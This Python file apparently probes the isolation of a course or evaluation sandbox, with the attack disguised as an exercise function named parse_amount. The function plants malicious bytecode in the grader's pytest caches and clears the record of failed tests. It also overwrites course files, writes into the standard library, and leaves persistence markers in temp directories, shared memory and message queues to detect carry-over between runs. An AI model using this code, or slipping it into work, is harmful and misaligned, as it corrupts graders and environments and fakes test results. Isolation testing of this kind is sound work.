"""Puts code into what the next run would read: byte code, caches of pytest, other stubs, keys and shared memory.

Must: nothing of the course is changed, nothing is found in the next test, and the tests failed.
"""

import contextlib
import ctypes
import importlib.util
import marshal
import os
import sys
from pathlib import Path

HARM = ""
COURSE = ""

DO_HARM = f"open({f'{HARM}/secret.txt'!r}, 'w').write('owned')"
NUMBER = 0x5A0A1
libc = ctypes.CDLL(None)


def byte_code(source: str) -> bytes:
    """As Python keeps it; the flags say that nobody need look whether it is new."""
    return (
        importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8) + marshal.dumps(compile(source, "", "exec"))
    )


def plant(path: Path, content: bytes) -> None:
    with contextlib.suppress(OSError):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)


def keep() -> list[str]:
    """Leaves notes where no file is, and gives back those that are there already."""
    found = [place for place in ("/tmp", "/dev/shm", "/var/tmp", ".") if Path(place, "note-of-mine").exists()]
    for place in ("/tmp", "/dev/shm", "/var/tmp", "."):
        plant(Path(place, "note-of-mine"), b"150000")
    found += ["shared memory"] * (libc.shmget(NUMBER, 4096, 0o666) >= 0)
    found += ["a queue"] * (libc.msgget(NUMBER, 0o666) >= 0)
    libc.shmget(NUMBER, 4096, 0o1666)
    libc.msgget(NUMBER, 0o1666)
    return found


def parse_amount(text: str) -> int:
    tag = sys.implementation.cache_tag
    for name in ("plugin", "verdict", "week1/exercises/etl_basic/test_etl_basic"):
        module = Path(COURSE, "grader", name)
        for cached in (tag, f"{tag}-pytest-9.2.0"):
            plant(module.parent / "__pycache__" / f"{module.name}.{cached}.pyc", byte_code(DO_HARM))
    plant(Path(COURSE, ".pytest_cache", "v", "cache", "lastfailed"), b"{}")
    plant(Path(COURSE, "week1", "exercises", "data_quality.py"), DO_HARM.encode())
    with contextlib.suppress(ImportError):
        plant(Path(os.__file__).with_name("this.py"), DO_HARM.encode())
    if found := keep():
        plant(Path(HARM, "secret.txt"), b"owned")
        raise ValueError(f"notes of the test before: {found}")
    return 0
